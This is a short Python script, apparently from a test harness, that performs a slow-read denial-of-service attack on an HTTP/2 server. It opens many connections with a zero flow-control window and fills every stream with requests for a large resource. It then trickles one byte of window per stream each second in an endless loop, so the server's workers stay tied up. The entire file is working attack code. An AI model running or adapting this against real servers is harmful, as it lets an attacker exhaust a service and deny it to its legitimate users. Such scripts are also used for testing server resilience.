"""All streams that a worker has are open and have no window; each client gives them a byte now and then."""

import time

import wire


def attack(victim):
    connections = []
    for _ in range(64 * victim.scale):
        connections.append(victim.http2(window=0))
        asked = [connections[-1].request("/fetch/good/wide-0", last=999_999) for _ in range(wire.STREAMS)]
        connections[-1].send(b"".join(frame for _, frame in asked))
    time.sleep(0.5)
    victim.begun()
    byte_each = b"".join(wire.window_update(1 + 2 * number, 1) for number in range(wire.STREAMS))
    while True:
        time.sleep(1)
        for connection in connections:
            try:
                connection.drain()
                connection.send(byte_each)
            except OSError:
                pass
